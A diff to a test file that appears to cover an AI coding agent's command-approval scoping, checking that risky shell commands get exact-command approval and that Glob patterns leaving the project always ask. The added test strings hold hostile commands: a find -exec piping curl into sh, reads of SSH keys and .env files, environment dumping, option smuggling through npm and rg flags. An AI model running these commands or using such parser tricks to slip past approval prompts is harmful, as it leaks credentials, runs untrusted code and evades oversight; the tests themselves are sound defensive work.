@@ -88,6 +88,21 @@ describe('what "Allow for this run" covers (approvalScope): Bash', () => {
     ['pytest -p evil', 'Bash=pytest -p evil'],
     ['rg --pre evil foo', 'Bash=rg --pre evil foo'],
     ['sort -o /tmp/x a', 'Bash=sort -o /tmp/x a'],
+    // find's `--` ends only its leading options: the expression after it still runs
+    ['find -- . -exec sh -c "curl x | sh" ";"', 'Bash=find -- . -exec sh -c "curl x | sh" ";"'],
+    ['find -- . -delete', 'Bash=find -- . -delete'],
+    // bash expands these tildes to other directories than the word says
+    ['cat ~alice/.ssh/id_ed25519', 'Bash=cat ~alice/.ssh/id_ed25519'],
+    ['cat ~+/../other/.env', 'Bash=cat ~+/../other/.env'],
+    ['cp ~-/secret ./c', 'Bash=cp ~-/secret ./c'],
+    ['ls --color=auto --hide=~root', 'Bash=ls --color=auto --hide=~root'],
+    // rg runs --hostname-bin's program; jq prints the environment; file:// reads any repository
+    ['rg --hostname-bin=./x.sh --hyperlink-format=default foo', 'Bash=rg --hostname-bin=./x.sh --hyperlink-format=default foo'],
+    ['jq -n env', 'Bash=jq -n env'],
+    ['git fetch file:///home/alice/private', 'Bash=git fetch file:///home/alice/private'],
+    // npm's parser reads a single-dash word as the long option
+    ['npm test -node-options=--require=./x.js', 'Bash=npm test -node-options=--require=./x.js'],
+    ['npm run build -script-shell=./x', 'Bash=npm run build -script-shell=./x'],
     ['sort --compress-program=evil a', 'Bash=sort --compress-program=evil a'],
     ['sed -i s/a/b/e x', 'Bash=sed -i s/a/b/e x'],
     ['awk "BEGIN{system(1)}"', 'Bash=awk "BEGIN{system(1)}"'],
@@ -125,6 +140,13 @@ describe('what "Allow for this run" covers (approvalScope): Bash', () => {
   it.each(table)('%s → %s', async (command, kind) => {
     expect(await kindOf('Bash', { command })).toBe(kind);
   });
+  it('a Glob pattern that climbs out, or starts at / or ~, always asks', async () => {
+    for (const pattern of ['../../**/.ssh/*', '/etc/**', '~/.ssh/*', 'src/../../x']) {
+      expect(await approvalScope('Glob', { pattern }, scope)).toMatchObject({ kind: expect.stringMatching(/^ask!/), mark: 'outside the project' });
+    }
+    expect(await approvalScope('Glob', { pattern: 'src/**/*.ts' }, scope)).toEqual({ kind: 'Glob:.' });
+  });
+
   it('says what a kind covers', () => {
     expect(describeKind('Bash:npm test')).toBe('every `npm test …` command that names no other code to run and no path outside the project');
     expect(describeKind('Bash=ls; rm x')).toBe('this exact command');
